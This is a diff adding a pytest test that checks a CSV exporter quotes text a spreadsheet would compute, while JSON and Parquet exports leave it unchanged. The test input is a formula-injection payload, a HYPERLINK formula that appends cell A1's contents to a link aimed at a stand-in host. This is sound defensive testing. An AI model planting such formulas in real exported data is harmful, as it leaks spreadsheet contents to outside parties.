@@ -76,6 +76,19 @@ def test_all_formats_say_the_same(run: Path, tmp_path: Path) -> None:
         assert read(tmp_path / f"{name}.csv") == told
 
 
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_only_csv_quotes_text_that_a_spreadsheet_would_compute(tmp_path: Path, first: str) -> None:
+    text = f'{first}HYPERLINK("//x?"&A1)'
+    path = write_turns(tmp_path / "run", requests=1, text=text)
+    told = {}
+    for kind in ("csv", "json", "parquet"):
+        export(path, tmp_path, kind)  # type: ignore[arg-type]
+        (record,) = read(tmp_path / f"requests.{kind}")
+        row = read(tmp_path / f"activations.{kind}")[0]
+        told[kind] = {record["prompt_text"], row["explanation"]}
+    assert told == {"csv": {f"'{text}"}, "json": {text}, "parquet": {text}}
+
+
 def test_pandas_reads_each_format(run: Path, tmp_path: Path) -> None:
     for kind in ("csv", "json", "parquet"):
         export(run, tmp_path, kind)  # type: ignore[arg-type]
